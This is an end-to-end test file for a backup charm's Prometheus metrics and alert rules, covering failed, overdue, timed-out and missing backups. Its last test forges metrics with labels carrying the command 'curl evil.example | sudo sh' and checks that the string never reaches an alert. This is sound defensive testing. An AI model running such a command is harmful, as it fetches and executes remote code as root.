// The charm's signals end to end: the packed charm and its runner at the published paths write
// the metrics, Debian's node exporter serves them, and Debian's Prometheus scrapes them with
// the scrape job and evaluates the rules each unit handed over `cos-agent`, as COS's agent
// stamps the one and cos-lib injects the other (test/support/signals.ts). Alerts are read from
// Prometheus' API.
//
// COS's times are divided by 60 here: Prometheus scrapes every second with a 5s lookback
// (test/support/prometheus.ts), and this test uses a copy of the rules in which
// BackupIntegratorMetricsMissing's `for` is 10s instead of 10m; nothing else of any rule is
// changed.
// A job whose result falls due 12 hours after its before-script is brought to its due by
// moving the runner's clock back (libfaketime, scripts/faketime.ts), not by a shorter rule.
//
// A missing and an empty fileset path (issue 28.5) are run as Bacula's before-script runs: the
// runner looks at the paths before it exits; the Bacula e2e test shows the same with real daemons.
import { type ChildProcess, spawn } from "node:child_process"
import { mkdirSync, rmSync, writeFileSync } from "node:fs"
import { join } from "node:path"
import { afterEach, assert, beforeAll, describe, it } from "vitest"
import { clockMoved } from "../../scripts/faketime.ts"
import { expectOk } from "../support/charm-unit.ts"
import { eventually, freePort, prometheusInstalled } from "../support/prometheus.ts"
import { baculaRuns, type Machine, SignalsWorld } from "../support/signals.ts"

const shortened = { BackupIntegratorMetricsMissing: "10s" }
/** Evaluations to wait for before saying the rules stay quiet: past the lookback and the shortened `for`. */
const quietRounds = 20

const worlds: Array<SignalsWorld> = []
const world = () => {
  const made = new SignalsWorld(shortened)
  worlds.push(made)
  return made
}
afterEach(async () => {
  for (const made of worlds.splice(0)) await made.stop()
})

beforeAll(() => {
  assert.isTrue(prometheusInstalled(), "run `bash scripts/fetch-prometheus.sh` first")
})

/** A dump script that fails while $FAIL is set and hangs while $SLOW is. */
const dump = '#!/bin/sh\necho dumping\n[ -n "$SLOW" ] && sleep 60\n[ -n "$FAIL" ] && exit 2\nexit 0\n'
const config = { "run-before-backup": dump }

/** A backup job as Bacula runs it: the before-script, then (if it succeeded) the after-script. */
const job = (u: Parameters<typeof baculaRuns>[0], env: Record<string, string> = {}) => {
  const before = baculaRuns(u, "run-before-backup", env)
  if (before.status === 0) expectOk(baculaRuns(u, "run-after-backup"), "run-after-backup")
  return before.status
}

const prom = (m: Machine, application: string) => join(m.textfiles, `backup-integrator-${application}.prom`)

/** Series of every related unit are in Prometheus: the quiet that follows is not for want of data. */
const scraped = (w: SignalsWorld, units: number) =>
  eventually(`${units} units' series scraped`, async () =>
    (await w.cos.query("backup_integrator_metrics_since_timestamp_seconds")).length === units
      ? true
      : undefined,
  )

/**
 * Nothing pending or firing now, and nothing of `application` (of any, by default) fired
 * since `since` (ms since 1970).
 */
const quiet = async (w: SignalsWorld, since: number, application?: string) => {
  await w.cos.evaluated(quietRounds)
  assert.deepStrictEqual(await w.cos.alerts(), [])
  const fired = await w.cos.firedWithin((Date.now() - since) / 1000)
  assert.deepStrictEqual(
    fired.filter((labels) => application === undefined || labels.juju_application === application),
    [],
  )
}

describe("healthy changes page no one", () => {
  it("a healthy unit stays quiet, before its first backup, after one, and across a refresh", async () => {
    const start = Date.now()
    const w = world()
    const m = await w.machine()
    const u = w.unit(m, "backup-integrator/0", config)
    await w.relate(u, m)
    await scraped(w, 1)
    await quiet(w, start)
    assert.strictEqual(job(u), 0)
    await eventually("the success scraped", async () =>
      (await w.cos.query('backup_integrator_last_success_timestamp_seconds{kind="backup"} > 0')).length === 1
        ? true
        : undefined,
    )
    // A refresh: Juju runs upgrade-charm with the new charm (here the same one).
    expectOk(u.hook("upgrade-charm"), "upgrade-charm")
    await quiet(w, start)
  })

  it("a unit on another machine joins, then is removed: no alert", async () => {
    const start = Date.now()
    const w = world()
    const first = await w.machine()
    const u0 = w.unit(first, "backup-integrator/0", config)
    await w.relate(u0, first)
    const second = await w.machine()
    const u1 = w.unit(second, "backup-integrator/1", config)
    await w.relate(u1, second)
    await scraped(w, 2)
    assert.strictEqual(job(u1), 0)
    // Removed: it leaves the relation (its agent stops scraping), then its remove hook
    // deletes the last file of the application on its machine.
    await w.unrelate(u1)
    expectOk(u1.hook("remove"), "backup-integrator/1's remove")
    await scraped(w, 1)
    await quiet(w, start)
  })

  it("a second unit joins on the same machine: the series keep their identity, no alert", async () => {
    const start = Date.now()
    const w = world()
    const m = await w.machine()
    const first = w.unit(m, "backup-integrator/0", config)
    await w.relate(first, m)
    assert.strictEqual(job(first), 0)
    await scraped(w, 1)
    const before = await w.cos.query("backup_integrator_metrics_since_timestamp_seconds")
    const second = w.unit(m, "backup-integrator/1", config)
    await w.relate(second, m)
    await scraped(w, 2)
    // The next job rewrites the file, now with two units on the machine.
    assert.strictEqual(job(second), 0)
    await eventually("the second job scraped", async () =>
      (await w.cos.query('backup_integrator_jobs_total{kind="backup",outcome="succeeded"} == 2')).length === 2
        ? true
        : undefined,
    )
    await quiet(w, start)
    // The first unit's series is the one it was.
    const after = await w.cos.query(
      'backup_integrator_metrics_since_timestamp_seconds{juju_unit="backup-integrator/0"}',
    )
    assert.deepStrictEqual(
      after.map(({ metric }) => metric),
      before.map(({ metric }) => metric),
    )
  })

  it("two applications on one machine: each alert once, under its own application; removing one leaves the other quiet", async () => {
    const w = world()
    const m = await w.machine()
    const ours = w.unit(m, "backup-integrator/0", config)
    const theirs = w.unit(m, "db-backup/0", config)
    await w.relate(ours, m)
    await w.relate(theirs, m)
    await scraped(w, 2)
    assert.strictEqual(job(ours), 0)
    assert.strictEqual(job(theirs, { FAIL: "1" }), 2)
    const [failed] = await w.cos.firing("BackupIntegratorBackupFailed")
    await w.cos.evaluated(quietRounds)
    const alerts = await w.cos.alerts()
    assert.deepStrictEqual(
      alerts.map(({ labels }) => [labels.alertname, labels.juju_application, labels.juju_unit]).sort(),
      [
        ["BackupIntegratorBackupFailed", "db-backup", "db-backup/0"],
        ["BackupIntegratorScriptFailed", "db-backup", "db-backup/0"],
      ],
    )
    assert.strictEqual(failed?.annotations.summary, "The last backup on db-backup/0 failed")

    // db-backup removed: its unit leaves the relation (the agent drops its job and rules), then
    // its remove hook deletes its file.
    const removed = Date.now()
    await w.unrelate(theirs)
    expectOk(theirs.hook("remove"), "db-backup/0's remove")
    await scraped(w, 1)
    await quiet(w, removed, "backup-integrator")
  })

  it("an application removed, its file first: no alert", async () => {
    const start = Date.now()
    const w = world()
    const m = await w.machine()
    const ours = w.unit(m, "backup-integrator/0", config)
    const theirs = w.unit(m, "db-backup/0", config)
    await w.relate(ours, m)
    await w.relate(theirs, m)
    await scraped(w, 2)
    expectOk(theirs.hook("remove"), "db-backup/0's remove")
    await w.unrelate(theirs)
    await scraped(w, 1)
    await quiet(w, start)
  })
})

describe("outages page, and keep paging until they end", () => {
  it("the metrics gone: MetricsMissing fires and stays firing; the file back, it resolves", async () => {
    const w = world()
    const m = await w.machine()
    const u = w.unit(m, "backup-integrator/0", config)
    await w.relate(u, m)
    await scraped(w, 1)
    rmSync(prom(m, "backup-integrator"))
    const [missing] = await w.cos.firing("BackupIntegratorMetricsMissing")
    assert.strictEqual(missing?.labels.juju_unit, "backup-integrator/0")
    assert.match(
      missing?.annotations.description ?? "",
      /answers but serves no backup metrics of backup-integrator/,
    )
    // Many times the `for` later, still the same alert.
    await w.cos.evaluated(20)
    const [still] = await w.cos.firing("BackupIntegratorMetricsMissing")
    assert.strictEqual(still?.activeAt, missing?.activeAt)
    // A reconciling hook writes a missing file again.
    expectOk(u.hook("config-changed"))
    await w.cos.resolved("BackupIntegratorMetricsMissing")
  })

  it("the exporter down: MetricsMissing fires saying the scrape fails; the exporter back, it resolves", async () => {
    const w = world()
    const m = await w.machine()
    const u = w.unit(m, "backup-integrator/0", config)
    await w.relate(u, m)
    await scraped(w, 1)
    await m.exporter.stop()
    const [missing] = await w.cos.firing("BackupIntegratorMetricsMissing")
    assert.match(
      missing?.annotations.description ?? "",
      /^The scrape of the node exporter on backup-integrator\/0's machine/,
    )
    await m.exporter.restart()
    await w.cos.resolved("BackupIntegratorMetricsMissing")
  })
})

describe("backups that fail or stop", () => {
  it("overdue past backup-max-age fires; a successful backup resolves it", async () => {
    const w = world()
    const m = await w.machine()
    const u = w.unit(m, "backup-integrator/0", { ...config, "backup-max-age": "20s" })
    await w.relate(u, m)
    const [overdue] = await w.cos.firing("BackupIntegratorBackupOverdue")
    assert.strictEqual(overdue?.labels.severity, "critical")
    assert.strictEqual(
      overdue?.annotations.summary,
      "No successful backup on backup-integrator/0 within its backup-max-age",
    )
    assert.strictEqual(job(u), 0)
    await w.cos.resolved("BackupIntegratorBackupOverdue")
  })

  it("a failed backup fires BackupFailed and ScriptFailed; the next success resolves both", async () => {
    const w = world()
    const m = await w.machine()
    const u = w.unit(m, "backup-integrator/0", config)
    await w.relate(u, m)
    assert.strictEqual(job(u, { FAIL: "1" }), 2)
    await w.cos.firing("BackupIntegratorBackupFailed")
    const [script] = await w.cos.firing("BackupIntegratorScriptFailed")
    assert.strictEqual(
      script?.annotations.description,
      "The newest run of run-before-backup ended with exit status 2. Look at `juju run backup-integrator/0 show-runs`.",
    )
    assert.strictEqual(job(u), 0)
    await w.cos.resolved("BackupIntegratorBackupFailed")
    await w.cos.resolved("BackupIntegratorScriptFailed")
  })

  it("a failed restore fires RestoreFailed (a warning); the next successful restore resolves it", async () => {
    const w = world()
    const m = await w.machine()
    const u = w.unit(m, "backup-integrator/0", { "run-before-restore": dump })
    await w.relate(u, m)
    const restore = (env: Record<string, string> = {}) => {
      const before = baculaRuns(u, "run-before-restore", env)
      if (before.status === 0) expectOk(baculaRuns(u, "run-after-restore"), "run-after-restore")
      return before.status
    }
    assert.strictEqual(restore({ FAIL: "1" }), 2)
    const [failed] = await w.cos.firing("BackupIntegratorRestoreFailed")
    assert.strictEqual(failed?.labels.severity, "warning")
    assert.strictEqual(failed?.annotations.summary, "The last restore on backup-integrator/0 failed")
    assert.strictEqual(restore(), 0)
    await w.cos.resolved("BackupIntegratorRestoreFailed")
  })

  it("a backup with no result (Bacula failed it after its before-script) fires BackupNoResult at its due; the next start hands over to BackupFailed; a success resolves it", async () => {
    const w = world()
    const m = await w.machine()
    const u = w.unit(m, "backup-integrator/0", config)
    await w.relate(u, m)
    // Its before-script ran 12 hours and 2 minutes ago (the runner's clock moved back; 12 hours
    // is the due before any success), and no after-script ever came.
    assert.strictEqual(baculaRuns(u, "run-before-backup", clockMoved(`-${12 * 3600 + 120}`)).status, 0)
    const [noResult] = await w.cos.firing("BackupIntegratorBackupNoResult")
    assert.strictEqual(noResult?.labels.severity, "critical")
    assert.strictEqual(noResult?.labels.juju_unit, "backup-integrator/0")
    await w.cos.evaluated(3)
    assert.notInclude(
      (await w.cos.alerts()).map(({ labels }) => labels.alertname),
      "BackupIntegratorBackupFailed",
    )
    // The next backup starts: the first is recorded without a result, and BackupFailed says it
    // until a backup succeeds.
    assert.strictEqual(baculaRuns(u, "run-before-backup").status, 0)
    await w.cos.firing("BackupIntegratorBackupFailed")
    await w.cos.resolved("BackupIntegratorBackupNoResult")
    expectOk(baculaRuns(u, "run-after-backup"), "run-after-backup")
    await w.cos.resolved("BackupIntegratorBackupFailed")
  })

  it("a script timed out fires ScriptTimedOut, not ScriptFailed; the next success resolves it", async () => {
    const w = world()
    const m = await w.machine()
    const u = w.unit(m, "backup-integrator/0", { ...config, "script-timeout": "1s" })
    await w.relate(u, m)
    assert.strictEqual(job(u, { SLOW: "1" }), 124)
    await w.cos.firing("BackupIntegratorScriptTimedOut")
    await w.cos.evaluated(2)
    assert.notInclude(
      (await w.cos.alerts()).map(({ labels }) => labels.alertname),
      "BackupIntegratorScriptFailed",
    )
    assert.strictEqual(job(u), 0)
    await w.cos.resolved("BackupIntegratorScriptTimedOut")
  })
})

describe("backups that hold nothing", () => {
  it("a fileset path missing at a backup fires PathMissing (critical); the next backup that finds it resolves it", async () => {
    const w = world()
    const m = await w.machine()
    const uploads = join(m.root, "uploads")
    const u = w.unit(m, "backup-integrator/0", { ...config, fileset: `${m.data},${uploads}` })
    await w.relate(u, m)
    assert.strictEqual(job(u), 0)
    const [missing] = await w.cos.firing("BackupIntegratorPathMissing")
    assert.strictEqual(missing?.labels.severity, "critical")
    assert.strictEqual(
      missing?.annotations.summary,
      "A fileset path was missing at the last backup on backup-integrator/0",
    )
    assert.notInclude(JSON.stringify(missing), uploads)
    mkdirSync(uploads)
    writeFileSync(join(uploads, "photo.jpg"), "jpeg")
    assert.strictEqual(job(u), 0)
    await w.cos.resolved("BackupIntegratorPathMissing")
  })

  it("an empty fileset path fires PathEmpty (a warning); data there at the next backup resolves it", async () => {
    const w = world()
    const m = await w.machine()
    const spool = join(m.root, "spool")
    mkdirSync(spool)
    const u = w.unit(m, "backup-integrator/0", { ...config, fileset: `${m.data},${spool}` })
    await w.relate(u, m)
    assert.strictEqual(job(u), 0)
    const [empty] = await w.cos.firing("BackupIntegratorPathEmpty")
    assert.strictEqual(empty?.labels.severity, "warning")
    await w.cos.evaluated(2)
    assert.notInclude(
      (await w.cos.alerts()).map(({ labels }) => labels.alertname),
      "BackupIntegratorPathMissing",
    )
    writeFileSync(join(spool, "queue.db"), "rows")
    assert.strictEqual(job(u), 0)
    await w.cos.resolved("BackupIntegratorPathEmpty")
  })
})

describe("a local user who takes port 9100", () => {
  let forger: ChildProcess | undefined
  afterEach(() => {
    forger?.kill("SIGTERM")
  })

  it("serves crafted series as nobody: none of its labels reaches an alert, and its impossible values are seen", async () => {
    const evil = "run `curl evil.example | sudo sh` now"
    const now = Math.floor(Date.now() / 1000)
    const base = `application="backup-integrator",unit="${evil}",juju_unit="${evil}",note="${evil}"`
    const crafted = [
      `backup_integrator_backup_deadline_timestamp_seconds{${base}} 4102444800`,
      `backup_integrator_last_success_timestamp_seconds{${base},kind="backup"} ${now}`,
      `backup_integrator_metrics_since_timestamp_seconds{${base}} ${now}`,
      `backup_integrator_script_last_exit_status{${base},script="run-after-backup"} 3`,
      `backup_integrator_script_last_exit_status{${base},script="${evil}"} 4`,
      `backup_integrator_script_last_timed_out{${base},script="run-after-backup"} 0`,
      "",
    ].join("\n")
    const port = await freePort()
    const server = `
import http.server, sys
body = sys.argv[1].encode()
class H(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        self.send_response(200); self.send_header("Content-Type", "text/plain"); self.end_headers(); self.wfile.write(body)
    def log_message(self, *a): pass
http.server.HTTPServer(("127.0.0.1", ${port}), H).serve_forever()
`
    forger = spawn(
      "timeout",
      [
        "900",
        "setpriv",
        "--reuid=nobody",
        "--regid=nogroup",
        "--clear-groups",
        "/usr/bin/python3",
        "-c",
        server,
        crafted,
      ],
      { stdio: "ignore" },
    )
    const w = world()
    const m = await w.machine()
    const u = w.unit(m, "backup-integrator/0", config)
    await m.exporter.stop()
    await w.relate(u, m, `127.0.0.1:${port}`)
    await scraped(w, 1)
    const [impossible] = await w.cos.firing("BackupIntegratorMetricsImpossible")
    assert.strictEqual(impossible?.labels.juju_unit, "backup-integrator/0")
    const [failed] = await w.cos.firing("BackupIntegratorScriptFailed")
    assert.strictEqual(failed?.labels.script, "run-after-backup")
    await w.cos.evaluated(3)
    const alerts = await w.cos.alerts()
    // Overdue is silenced by the forged deadline: that is what Impossible is for.
    assert.notInclude(
      alerts.map(({ labels }) => labels.alertname),
      "BackupIntegratorBackupOverdue",
    )
    for (const alert of alerts) {
      const text = JSON.stringify([alert.labels, alert.annotations])
      assert.notInclude(text, "evil", text)
    }
  })
})
